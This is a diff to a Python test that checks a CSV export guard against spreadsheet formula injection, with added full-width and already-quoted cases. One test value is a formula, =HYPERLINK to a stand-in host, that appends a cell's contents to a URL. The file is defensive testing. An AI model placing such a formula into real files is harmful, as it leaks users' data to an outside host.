@@ -367,12 +367,13 @@ def test_a_trickled_answer_outlives_a_timeout(other) -> None:
 
 
 def test_no_cell_is_a_formula(monkeypatch) -> None:
-    from itss_graph.presentation import csv
+    from itss_graph.presentation.formulas import guarded, without_formulas
 
     attack = '=HYPERLINK("http://192.0.2.1/?"&A1)'
-    table = pl.DataFrame({"x": [attack, "+1", "-1", "@x", "\tx", "\rx", "plain"]})
-    harmless = csv.without_formulas(table)["x"].to_list()
-    assert harmless == [f"'{attack}", "'+1", "'-1", "'@x", "'\tx", "'\rx", "plain"]
+    runs = [attack, "+1", "-1", "@x", "\tx", "\rx", "＝1", "＋1", "－1", "＠x", "'=1"]
+    table = pl.DataFrame({"x": [*runs, "plain", "'plain", "1=1"]})
+    harmless = without_formulas(table)["x"].to_list()
+    assert harmless == [*(f"'{text}" for text in runs), "plain", "'plain", "1=1"] == list(map(guarded, table["x"]))
     buffer = io.StringIO()
     table.write_csv(buffer)
     assert "\n+1\n" in buffer.getvalue(), "as it is without"
